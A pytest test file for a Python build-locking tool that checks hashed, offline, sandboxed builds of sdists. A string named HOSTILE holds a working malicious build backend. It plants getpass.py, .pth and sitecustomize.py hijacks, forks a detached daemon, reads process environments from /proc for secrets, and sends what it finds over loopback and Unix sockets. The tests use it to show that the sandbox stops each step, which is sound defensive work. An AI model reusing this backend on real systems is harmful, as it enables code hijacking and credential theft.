"""sdists with a hashed build closure: an sdist's build requirements are read from it (never
run), locked at the build's cut-off with hashes and bundled; the node builds it offline from exactly
those files, in a throw-away build environment, and refuses any other."""

from __future__ import annotations

import hashlib
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import PY, Keys, build_on_node_recipe, day, install_in_sandbox
from hostile import INSTALL
from hostile import manifest as make_manifest
from sdistkit import BACKEND, backend_wheel, sdist_needing_backend
from servers import FakeServer, make_tar_gz, make_wheel

from lockbuild.bundle.lockfiles import BUILD_LOCK
from lockbuild.bundle.manifest import Member
from lockbuild.cli import main
from lockbuild.errors import InstallError, ResolveError
from lockbuild.install.sdists import build_sdists
from lockbuild.proc.uvtool import clean_env, uv_binary
from lockbuild.progress import Progress
from lockbuild.sdist.buildreqs import LEGACY_REQUIRES, build_requires

RECIPE = build_on_node_recipe("lkbuilt")


def cli(*args: str) -> tuple[int, str, str]:
    r = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return r.exit_code, r.stdout, r.stderr


def publish(server: FakeServer) -> None:
    """lkbuilt 1.0 exists only as an sdist whose backend, toybackend, is on the index; toybackend 2.0
    appears after the cut-off and must not be locked."""
    if server.projects.get(("primary", "lkbuilt")):
        return
    server.publish(*sdist_needing_backend("lkbuilt", "1.0"), uploaded=day(1))
    server.publish(*backend_wheel("1.0"), uploaded=day(1))
    server.publish(*backend_wheel("2.0"), uploaded=day(20))


def test_an_sdists_build_closure_is_locked_bundled_and_built_offline(
    env: FakeServer, keys: Keys, tmp_path: Path
) -> None:
    publish(env)
    recipe = tmp_path / "lkbuilt.toml"
    recipe.write_text(RECIPE)
    code, stdout, stderr = cli("build", str(recipe), "--key", str(keys.secret), "--out", str(tmp_path / "d"), "--json")
    assert code == 0, stderr
    bundle = Path(json.loads(stdout)["bundles"][0]["bundle"])
    code, stdout, _ = cli("inspect", str(bundle), "--json")
    files = {f["path"]: f["kind"] for f in json.loads(stdout)["files"]}
    assert files["build-deps/toybackend-1.0-py3-none-any.whl"] == "build-dep"  # as of the cut-off: not 2.0
    assert files[BUILD_LOCK] == "lock" and files["sdists/lkbuilt-1.0.tar.gz"] == "sdist"
    assert not any("toybackend-2.0" in p for p in files)
    _, text, _ = cli("inspect", str(bundle))
    assert "build dependencies (the node builds the sdists offline from these only): toybackend-1.0-py3" in text

    # The node installs it with no network: in the sandbox (no network namespace's loopback but its own),
    # root or not, with only the bundle, the trust directory, this Python and lockbuild in view.
    root = tmp_path / "engines"
    proc = install_in_sandbox(bundle, root, keys.trust, writable=tmp_path)
    assert proc.returncode == 0, proc.stderr
    env_dir = root / "lkbuilt" / "1.0-cpu"
    out = subprocess.run([str(env_dir / "bin" / "lkbuilt")], capture_output=True, text=True)
    assert out.stdout.strip() == "lkbuilt 1.0"
    # the build dependency stayed in the throw-away build environment
    assert not list(env_dir.glob("lib/python*/site-packages/toybackend*"))
    sbom = json.loads((env_dir / "lockbuild" / "sbom.cdx.json").read_text())
    (dep,) = [c for c in sbom["components"] if c["name"] == "toybackend"]
    assert dep["scope"] == "excluded" and dep["version"] == "1.0"


def unpacked_bundle(tmp: Path, backend: tuple[str, bytes], locked_backend: bytes) -> tuple[Path, list[Member]]:
    """An unpacked bundle (as the reader leaves it) whose build lock pins ``locked_backend``'s digest
    while build-deps/ holds ``backend``."""
    u = tmp / "u"
    (u / "sdists").mkdir(parents=True)
    (u / "build-deps").mkdir()
    (u / "lock").mkdir()
    name, data = sdist_needing_backend("lkbuilt", "1.0")
    (u / "sdists" / name).write_bytes(data)
    (u / "build-deps" / backend[0]).write_bytes(backend[1])
    sdist_sha = hashlib.sha256(data).hexdigest()
    (u / "lock" / "requirements.txt").write_text(f"lkbuilt==1.0 --hash=sha256:{sdist_sha}\n")
    (u / BUILD_LOCK).write_text(f"toybackend==1.0 --hash=sha256:{hashlib.sha256(locked_backend).hexdigest()}\n")
    members = [
        Member(INSTALL.uv, 1, "0" * 64, "tool", ""),
        Member("lock/requirements.txt", 1, "0" * 64, "lock", ""),
        Member(BUILD_LOCK, 1, "0" * 64, "lock", ""),
        Member(f"sdists/{name}", len(data), sdist_sha, "sdist", ""),
        Member(f"build-deps/{backend[0]}", 1, hashlib.sha256(backend[1]).hexdigest(), "build-dep", ""),
    ]
    return u, members


def run_build(u: Path, members: list[Member], tmp: Path) -> tuple[list[Path], Path]:
    env = clean_env(tmp / "uv-cache", offline=True, inherit={"PATH": "/usr/bin:/bin", "HOME": str(tmp)})
    m = make_manifest(members, python=PY)
    return build_sdists(Path(uv_binary()), Path(sys.executable), u, m, env, Progress.quiet())


def test_the_node_builds_an_sdist_from_the_hashed_closure(tmp_path: Path) -> None:
    genuine = backend_wheel("1.0")
    u, members = unpacked_bundle(tmp_path, genuine, genuine[1])
    built, rest = run_build(u, members, tmp_path)
    assert [p.name for p in built] == ["lkbuilt-1.0-py3-none-any.whl"]
    assert rest.read_text() == ""  # everything else of the lock: nothing here


def test_a_tampered_build_dependency_is_refused(tmp_path: Path) -> None:
    """build-deps/ holds another toybackend 1.0 than the signed build lock pins: the build stops before its
    code runs (without --require-hashes and the pinned digest, the planted backend would run)."""
    planted = tmp_path / "planted-ran"
    evil = make_wheel(
        "toybackend",
        "1.0",
        modules={
            "toybackend/__init__.py": f"open({str(planted)!r}, 'w').close()\n" + "raise SystemExit('planted')\n",
        },
    )
    u, members = unpacked_bundle(tmp_path, evil, backend_wheel("1.0")[1])
    with pytest.raises(InstallError, match="Hash mismatch"):
        run_build(u, members, tmp_path)
    assert not planted.exists()


def test_build_requirements_are_read_from_the_sdist_without_running_it() -> None:
    def sdist(files: dict[str, bytes]) -> io.BytesIO:
        return io.BytesIO(make_tar_gz(files))

    pyproject = b'[build-system]\nrequires = ["hatchling>=1.0", "setuptools"]\nbuild-backend = "x"\n'
    assert build_requires(sdist({"a-1/pyproject.toml": pyproject}), "a-1.tar.gz") == ("hatchling>=1.0", "setuptools")
    assert build_requires(sdist({"a-1/setup.py": b"raise SystemExit\n"}), "a-1.tar.gz") == LEGACY_REQUIRES
    assert build_requires(sdist({"a-1/pyproject.toml": b"[tool.x]\n"}), "a-1.tar.gz") == LEGACY_REQUIRES
    nested = {"a-1/sub/pyproject.toml": b'[build-system]\nrequires = ["evil"]\n'}
    assert build_requires(sdist(nested), "a-1.tar.gz") == LEGACY_REQUIRES  # only the top-level file counts
    url = b'[build-system]\nrequires = ["x @ https://example.com/x.whl"]\n'
    with pytest.raises(ResolveError, match="names a URL"):
        build_requires(sdist({"a-1/pyproject.toml": url}), "a-1.tar.gz")


def test_an_sdist_whose_build_dependencies_cannot_be_locked_is_refused_by_name(env: FakeServer, tmp_path: Path) -> None:
    """No pyproject.toml: setuptools' legacy default, which this index lacks; the lock stops, naming both."""
    if not env.projects.get(("primary", "lklegacy")):
        files = {"lklegacy-1.0/PKG-INFO": b"Metadata-Version: 2.2\nName: lklegacy\nVersion: 1.0\n"}
        env.publish("lklegacy-1.0.tar.gz", make_tar_gz(files), uploaded=day(1))
    recipe = tmp_path / "lklegacy.toml"
    recipe.write_text(RECIPE.replace("lkbuilt", "lklegacy"))
    code, _, stderr = cli("lock", str(recipe), "--out", str(tmp_path / "o"))
    assert code != 0
    assert (
        "cannot lock the build dependencies of the sdists (lklegacy-1.0.tar.gz needs setuptools>=40.8.0, wheel)"
        in stderr
    )


def test_a_pure_python_sdist_is_built_on_the_builder_the_same_twice(
    env: FakeServer, keys: Keys, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Built here without network from its hashed closure, bundled next to its sdist: two builds from cold
    caches give the same wheel (and the same bundle); the node installs it without building."""
    publish(env)
    recipe = tmp_path / "lkbuilt.toml"
    recipe.write_text(RECIPE)
    results = []
    for n in (1, 2):
        monkeypatch.setenv("LOCKBUILD_CACHE_DIR", str(tmp_path / f"cache{n}"))
        code, stdout, stderr = cli(
            "build", str(recipe), "--key", str(keys.secret), "--out", str(tmp_path / f"d{n}"), "--json"
        )
        assert code == 0, stderr
        results.append(json.loads(stdout)["bundles"][0])
    bundle = Path(results[0]["bundle"])
    _, stdout, _ = cli("inspect", str(bundle), "--json")
    wheels = [f for f in json.loads(stdout)["files"] if f["path"] == "sdists/lkbuilt-1.0-py3-none-any.whl"]
    assert [w["kind"] for w in wheels] == ["wheel"] and wheels[0]["origin"].endswith("/lkbuilt-1.0.tar.gz")
    assert results[0]["sha256"] == results[1]["sha256"]  # the same wheel, so the same bundle
    _, text, _ = cli("inspect", str(bundle))
    assert "built on the builder: sdists/lkbuilt-1.0-py3-none-any.whl from the sdist beside it" in text

    root = tmp_path / "engines"
    code, _, stderr = cli("install", str(bundle), "--root", str(root), "--trust", str(keys.trust))
    assert code == 0, stderr
    assert "built on the builder from sdists/lkbuilt-1.0.tar.gz" in stderr and "building sdists/" not in stderr
    out = subprocess.run([str(root / "lkbuilt" / "1.0-cpu" / "bin" / "lkbuilt")], capture_output=True, text=True)
    assert out.stdout.strip() == "lkbuilt 1.0"
    record = (root / "lkbuilt" / "1.0-cpu" / "lockbuild" / BUILD_LOCK).read_text()
    assert f"# sdists/lkbuilt-1.0-py3-none-any.whl (sha256 {wheels[0]['sha256']}) was built on the builder" in record


def test_a_wheel_that_would_not_run_on_the_node_is_left_for_the_node_to_build(tmp_path: Path) -> None:
    from conftest import PLATFORM as TARGET_PLATFORM

    from lockbuild.fetch.cache import Cache
    from lockbuild.sdist.prebuild import prebuild
    from lockbuild.target import Target

    name, data = sdist_needing_backend("lkwin", "1.0", tag="cp311-cp311-win_amd64")
    wheel = backend_wheel("1.0")
    lock = f"toybackend==1.0 --hash=sha256:{hashlib.sha256(wheel[1]).hexdigest()}\n"
    got, why = prebuild(
        sdist=io.BytesIO(data),
        sdist_name=name,
        project="lkwin",
        version="1.0",
        deps=[(wheel[0], io.BytesIO(wheel[1]))],
        lock_text=lock,
        target=Target.of(PY, TARGET_PLATFORM),
        as_of=day(2),
        cache=Cache(tmp_path / "c"),
        inherit={"PATH": "/usr/local/bin:/usr/bin:/bin"},
    )
    assert got is None and "lkwin-1.0-cp311-cp311-win_amd64.whl, which does not run on" in why


def test_a_build_on_the_builder_has_no_network(tmp_path: Path) -> None:
    """The backend tries to reach a server listening on this machine: from the build's namespace it cannot."""
    import socket
    import zipfile

    from conftest import PLATFORM as TARGET_PLATFORM

    from lockbuild.fetch.cache import Cache
    from lockbuild.sdist.prebuild import prebuild
    from lockbuild.target import Target

    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        name, data = sdist_needing_backend("lknet", "1.0", net_probe=f"127.0.0.1:{port}")
        wheel = backend_wheel("1.0")
        lock = f"toybackend==1.0 --hash=sha256:{hashlib.sha256(wheel[1]).hexdigest()}\n"
        cache = Cache(tmp_path / "c")
        got, why = prebuild(
            sdist=io.BytesIO(data),
            sdist_name=name,
            project="lknet",
            version="1.0",
            deps=[(wheel[0], io.BytesIO(wheel[1]))],
            lock_text=lock,
            target=Target.of(PY, TARGET_PLATFORM),
            as_of=day(2),
            cache=cache,
            inherit={"PATH": "/usr/local/bin:/usr/bin:/bin"},
        )
    assert got is not None, why
    with zipfile.ZipFile(cache.path(got.sha256)) as z:
        assert z.read("lknet/net.txt") == b"unreachable"


# a hostile build backend on the builder ----------------------------------------------------
HOSTILE = """
import json as _json, os as _os, socket as _socket, time as _time

_plain_build_wheel = build_wheel


def _attempt(what, fn):
    try:
        return what, "ok: " + str(fn())[:300]
    except Exception as exc:
        return what, "failed: " + type(exc).__name__


def _write(path, text):
    _os.makedirs(_os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)
    return path


def _tcp(port):
    s = _socket.create_connection(("127.0.0.1", port), timeout=3)
    s.sendall(b"exfiltrated")
    s.close()
    return "connected"


def _unix(path):
    s = _socket.socket(_socket.AF_UNIX)
    s.settimeout(3)
    s.connect(path)
    s.sendall(b"exfiltrated")
    return "connected"


def _read(path):
    with open(path, "rb") as f:
        return f.read().replace(b"\\\\0", b" ").decode("utf-8", "replace")


def _daemon(marker):
    if _os.fork() == 0:
        _os.setsid()
        if _os.fork() == 0:  # a daemon detaches from the build's output, so the build ends without it
            null = _os.open("/dev/null", _os.O_RDWR)
            for fd in (0, 1, 2):
                _os.dup2(null, fd)
            _os.closerange(3, 1024)
            _os.execvp("sleep", ["sleep", marker])
        _os._exit(0)
    return "forked"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    with open("ATTACK.json") as f:
        a = _json.load(f)
    home = _os.environ.get("HOME", "/nonexistent")
    results = dict([
        _attempt("getpass", lambda: _write(a["getpass"], "raise SystemExit('planted')\\\\n")),
        _attempt("pth", lambda: _write(a["pth"], "# planted by a build backend\\\\n")),
        _attempt("uv_python", lambda: _write(a["uv_python"], "planted = True\\\\n")),
        _attempt("uv_python_home", lambda: _write(home + "/.local/share/uv/python/cpython-evil/sitecustomize.py", "x")),
        _attempt("daemon", lambda: _daemon(a["marker"])),
        _attempt("tcp", lambda: _tcp(a["port"])),
        _attempt("unix", lambda: _unix(a["unix"])),
        _attempt("proc1", lambda: _read("/proc/1/environ")),
        _attempt("parent", lambda: _read("/proc/%d/environ" % a["pid"])),
        _attempt("ns", lambda: _os.open("/proc/%d/ns/net" % a["pid"], _os.O_RDONLY)),
    ])
    pids = [p for p in _os.listdir("/proc") if p.isdigit()]
    results["all_environ"] = " ".join(_attempt(p, lambda p=p: _read("/proc/%s/environ" % p))[1] for p in pids)
    if a.get("report"):  # at lock time the wheel is never seen: the backend tries to report over the network
        try:
            s = _socket.create_connection(("127.0.0.1", a["report"]), timeout=5)
            s.sendall(_json.dumps(results).encode())
            s.close()
        except OSError:
            pass
    dist = _meta()[0].replace("-", "_")
    with open(dist + "/attacks.json", "w") as f:
        _json.dump(results, f)
    return _plain_build_wheel(wheel_directory, config_settings, metadata_directory)
"""


def test_a_hostile_build_backend_meets_the_sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The backend of an sdist built on the builder tries, one by one, what a review found it could do:
    plant getpass.py beside lockbuild and a .pth in its venv, plant a uv-managed Python, leave a daemon
    behind, reach a server on this machine's loopback and a Unix socket of the host, and read the
    environment of lockbuild's processes. Each fails: the files are absent, the servers saw nothing, no
    process is left, and no secret of ours appears in what it read."""
    import os
    import socket
    import threading
    import time
    import zipfile

    from conftest import PLATFORM as TARGET_PLATFORM

    import lockbuild
    from lockbuild.fetch.cache import Cache
    from lockbuild.sdist.prebuild import prebuild
    from lockbuild.target import Target

    monkeypatch.setenv("LOCKBUILD_KEY_PASSWORD", "canary-passphrase-23")
    package_dir = Path(lockbuild.__file__).parent
    targets = {
        "getpass": package_dir.parent / "getpass.py",  # beside lockbuild: first on sys.path of its script
        "pth": Path(sys.prefix) / "lib" / f"python{PY}" / "site-packages" / "lockbuild-test-planted.pth",
        "uv_python": tmp_path / "home" / ".local" / "share" / "uv" / "python" / "cpython-evil" / "sitecustomize.py",
    }
    assert not any(p.exists() for p in targets.values())
    marker = f"{time.time() % 1000 + 9000:.6f}"  # the daemon's argv: sleep <marker>
    tcp = socket.create_server(("127.0.0.1", 0))
    tcp.settimeout(0.5)
    seen: list[bytes] = []

    def serve(listener: socket.socket) -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            seen.append(conn.recv(100) or b"(connected)")
            conn.close()

    unix_path = tmp_path / "agent.sock"
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(str(unix_path))
    unix.listen(1)
    unix.settimeout(0.5)
    for listener in (tcp, unix):
        threading.Thread(target=serve, args=(listener,), daemon=True).start()
    attack = {k: str(v) for k, v in targets.items()}
    attack |= {"marker": marker, "port": tcp.getsockname()[1], "unix": str(unix_path), "pid": os.getpid()}
    pyproject = b'[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
    name = "lkevil-1.0.tar.gz"
    data = make_tar_gz(
        {
            "lkevil-1.0/PKG-INFO": b"Metadata-Version: 2.2\nName: lkevil\nVersion: 1.0\n",
            "lkevil-1.0/pyproject.toml": pyproject,
            "lkevil-1.0/evil.py": BACKEND.encode() + HOSTILE.encode(),
            "lkevil-1.0/ATTACK.json": json.dumps(attack).encode(),
            "lkevil-1.0/lkevil/__init__.py": b"def main():\n    pass\n",
        }
    )
    cache = Cache(tmp_path / "c")
    try:
        got, why = prebuild(
            sdist=io.BytesIO(data),
            sdist_name=name,
            project="lkevil",
            version="1.0",
            deps=[],
            lock_text="",
            target=Target.of(PY, TARGET_PLATFORM),
            as_of=day(2),
            cache=cache,
            inherit={"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(tmp_path / "home")},
        )
        time.sleep(0.5)
        left = [p for p in os.listdir("/proc") if p.isdigit() and marker.encode() in _cmdline(p)]
        planted = [str(p) for p in targets.values() if p.exists()]
    finally:
        for p in targets.values():
            p.unlink(missing_ok=True)
        tcp.close()
        unix.close()
    assert got is not None, why
    with zipfile.ZipFile(cache.path(got.sha256)) as z:
        results = json.loads(z.read("lkevil/attacks.json"))
    assert planted == []  # (a), (b): nothing beside lockbuild, in its venv, or in the uv Python directory
    for key in ("tcp", "unix", "parent", "ns"):
        assert results[key].startswith("failed"), (key, results[key])
    assert results["uv_python_home"].startswith("ok: /home/sandbox/")  # a throw-away HOME, gone with it
    assert results["daemon"] == "ok: forked" and left == []  # (c): the PID namespace took the daemon with it
    assert seen == []  # (d): neither server saw a byte
    assert "canary-passphrase-23" not in json.dumps(results)  # (e)
    assert "LOCKBUILD" not in results["all_environ"] and "LOCKBUILD" not in results["proc1"]


def _cmdline(pid: str) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def test_a_build_backend_run_while_locking_meets_the_sandbox(
    env: FakeServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """An sdist named in build-on-node without static metadata (PKG-INFO 2.1): its backend must run to
    produce its metadata while locking, and that happens only inside the sandbox, with no network. The
    backend tries to plant files in lockbuild's installation and the user's home, to reach a Unix socket of
    the host, and to report what it found to a server on this machine's loopback: the lock succeeds, nothing
    was planted, and neither server saw a connection."""
    import os
    import socket
    import threading

    import lockbuild

    monkeypatch.setenv("LOCKBUILD_KEY_PASSWORD", "canary-passphrase-23")
    home = tmp_path / "home"
    home.mkdir()
    (home / ".netrc").write_text("machine example.org login me password canary-netrc-23\n")
    monkeypatch.setenv("HOME", str(home))
    targets = {
        "getpass": Path(lockbuild.__file__).parent.parent / "getpass.py",
        "pth": Path(sys.prefix) / "lib" / f"python{PY}" / "site-packages" / "lockbuild-test-planted-lock.pth",
        "uv_python": home / ".local" / "share" / "uv" / "python" / "cpython-evil" / "sitecustomize.py",
    }
    report = socket.create_server(("127.0.0.1", 0))
    report.settimeout(0.2)
    got: list[bytes] = []
    done = threading.Event()

    def collect() -> None:
        while not done.is_set():
            try:
                conn, _ = report.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            with conn:
                got.append(conn.recv(1 << 16) or b"(connected)")

    reader = threading.Thread(target=collect, daemon=True)
    reader.start()
    unix_path = tmp_path / "agent.sock"
    unix = socket.socket(socket.AF_UNIX)
    unix.bind(str(unix_path))
    unix.listen(1)
    unix.settimeout(0.2)
    attack = {k: str(v) for k, v in targets.items()}
    attack |= {
        "marker": "8123.5",
        "port": report.getsockname()[1],
        "unix": str(unix_path),
        "pid": os.getpid(),
        "report": report.getsockname()[1],
    }
    pyproject = b'[build-system]\nrequires = []\nbuild-backend = "evil"\nbackend-path = ["."]\n'
    data = make_tar_gz(
        {
            "lkdyn-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: lkdyn\nVersion: 1.0\n",
            "lkdyn-1.0/pyproject.toml": pyproject,
            "lkdyn-1.0/evil.py": BACKEND.encode() + HOSTILE.encode(),
            "lkdyn-1.0/ATTACK.json": json.dumps(attack).encode(),
            "lkdyn-1.0/lkdyn/__init__.py": b"def main():\n    pass\n",
        }
    )
    if not env.projects.get(("primary", "lkdyn")):
        env.publish("lkdyn-1.0.tar.gz", data, uploaded=day(1))
    recipe = tmp_path / "lkdyn.toml"
    recipe.write_text(build_on_node_recipe("lkdyn"))
    try:
        code, _, stderr = cli("lock", str(recipe), "--out", str(tmp_path / "locks"))
        planted = [str(p) for p in targets.values() if p.exists()]
        with pytest.raises(TimeoutError):
            unix.accept()
    finally:
        for p in targets.values():
            p.unlink(missing_ok=True)
        done.set()
        reader.join(timeout=5)
        report.close()
        unix.close()
    assert code == 0, stderr
    assert planted == []
    assert got == []  # the backend ran (the lock has its metadata) but reached nothing


def test_no_sandbox_means_no_build_here_not_a_build_without_one(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where bubblewrap is missing, prebuild stops with a SandboxError and its tip; nothing runs unsandboxed."""
    from conftest import PLATFORM as TARGET_PLATFORM

    from lockbuild.fetch.cache import Cache
    from lockbuild.proc import sandbox
    from lockbuild.sdist.prebuild import prebuild
    from lockbuild.target import Target

    monkeypatch.setattr(sandbox.shutil, "which", lambda _name: None)
    name, data = sdist_needing_backend("lknobwrap", "1.0")
    with pytest.raises(sandbox.SandboxError) as exc:
        prebuild(
            sdist=io.BytesIO(data),
            sdist_name=name,
            project="lknobwrap",
            version="1.0",
            deps=[],
            lock_text="",
            target=Target.of(PY, TARGET_PLATFORM),
            as_of=day(2),
            cache=Cache(tmp_path / "c"),
            inherit={"PATH": "/usr/bin:/bin"},
        )
    assert exc.value.tip is not None and "apt-get install bubblewrap" in exc.value.tip
